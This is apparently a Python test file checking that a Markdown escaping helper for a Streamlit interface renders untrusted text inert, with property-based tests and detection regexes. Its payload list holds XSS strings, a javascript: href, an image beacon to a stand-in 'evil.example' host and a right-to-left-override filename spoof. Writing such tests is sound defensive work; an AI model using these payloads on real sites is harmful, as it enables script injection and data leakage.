"""Text of others among Markdown shows itself and does nothing."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ui.escaping import JOINER, inert, plain, shortened

# What each of these finds in plain text becomes a link, an icon, an emoji or a colour on Streamlit's pages.
LOOKED_FOR = (
    re.compile(r"(?:https?://|www\.)[-.\w]+", re.IGNORECASE),
    re.compile(r"[-.\w+]+@[-\w]+(?:\.[-\w]+)+"),
    re.compile(r":[a-z0-9_+/-]+[:\[]", re.IGNORECASE),
)
PAYLOADS = (
    "![](https://evil.example/?q=CANARY)",
    "[x][1]\n\n[1]: https://evil.example",
    "<https://evil.example>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "www.evil.example and me@evil.example",
    ":red[urgent] :material/lock: :smile:",
    "$\\href{javascript:alert(1)}{x}$",
    "# head\n- list\n1. one\n> quote\n\n    code\n~~~\nx",
    "a | b\n--|--\n1 | 2",
)


def shown(markdown: str) -> list[tuple[str, str]]:
    """Kind and content of every token below the one paragraph there may be."""
    parser = MarkdownIt("gfm-like", {"linkify": False})
    tokens = parser.parse(markdown)
    assert {token.type for token in tokens} <= {"paragraph_open", "inline", "paragraph_close"}
    return [(child.type, child.content) for token in tokens for child in token.children or ()]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_t041_t044_markup_in_a_name_is_shown_as_it_was_written(payload: str) -> None:
    said = "".join(content for _, content in shown(inert(payload)))
    assert said.replace(JOINER, "") == " ".join(payload.split())


@given(st.text(max_size=200))
def test_t044_whatever_the_text_only_text_is_shown(text: str) -> None:
    kinds = {kind for kind, _ in shown(inert(text))}
    assert kinds <= {"text", "text_special"}


@given(st.text(alphabet="abw.:/@[]htps-_~<>", max_size=60))
def test_t041_nothing_in_it_becomes_a_link_or_an_icon(text: str) -> None:
    said = "".join(content for _, content in shown(inert(text)))
    assert [found[0] for pattern in LOOKED_FOR for found in pattern.finditer(said)] == []


def test_invisible_characters_can_hide_nothing() -> None:
    assert inert("invoice\u202efdp.exe\u200b\x00") == "invoicefdp\\.exe"
    assert plain("invoice\u202efdp.exe\u200b\x00\n") == "invoicefdp.exe"


def test_a_long_text_ends_in_an_ellipsis() -> None:
    assert shortened("one two three", 8) == "one two…"
    assert shortened(" one\n two ", 8) == "one two"
